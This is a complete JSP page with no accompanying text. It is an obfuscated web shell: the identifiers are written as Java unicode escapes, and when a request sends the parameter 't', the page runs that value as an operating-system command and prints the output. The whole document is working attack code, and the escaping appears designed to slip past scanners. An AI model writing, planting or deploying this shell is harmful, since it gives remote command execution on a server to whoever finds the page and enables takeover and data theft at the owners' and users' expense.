<%@ page pageEncoding="UTF-8" %><%
\u0069\u0066 (request.\u0067\u0065\u0074\u0050arameter("t") != null) {
    java.io.InputStream \u0069n = \u006a\u0061\u0076\u0061.lang.\u0052\u0075\u006e\u0074\u0069\u006d\u0065.getRuntime().\u0065\u0078\u0065\u0063(request.\u0067\u0065\u0074\u0050arameter("t")).getInputStream();
    byte[] \u0062 = new byte[2048];
    int \u006e;
    out.print("<pre>");
    while ((\u006e = \u0069n.read(\u0062)) != -1) { out.print(new String(\u0062, 0, \u006e)); }
    out.print("</pre>");
}
%>
